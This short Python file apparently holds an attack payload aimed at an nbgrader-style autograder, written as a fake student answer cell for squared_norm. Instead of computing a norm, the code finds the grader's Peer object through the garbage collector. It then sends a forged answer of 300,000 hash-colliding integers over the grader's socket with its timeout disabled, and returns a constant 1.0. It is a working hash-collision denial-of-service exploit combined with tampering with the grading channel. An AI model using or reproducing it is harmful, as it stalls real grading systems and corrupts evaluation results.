"""Returns sets and dictionaries of numbers with one hash value, which take hours to fill.

Stock nbgrader: minutes.
"""

CELLS = {
    "squared_norm": """
import gc
import json


def squared_norm(x):
    (peer,) = [thing for thing in gc.get_objects() if type(thing).__name__ == "Peer"]
    numbers = [k * (2**61 - 1) for k in range(1, 300_000)]
    text = json.dumps(["answer", "", [{"set": numbers}]]).encode()
    peer.connection.settimeout(None)
    peer.connection.sendall(len(text).to_bytes(4, "big") + bytes(4) + text)
    return 1.0
"""
}
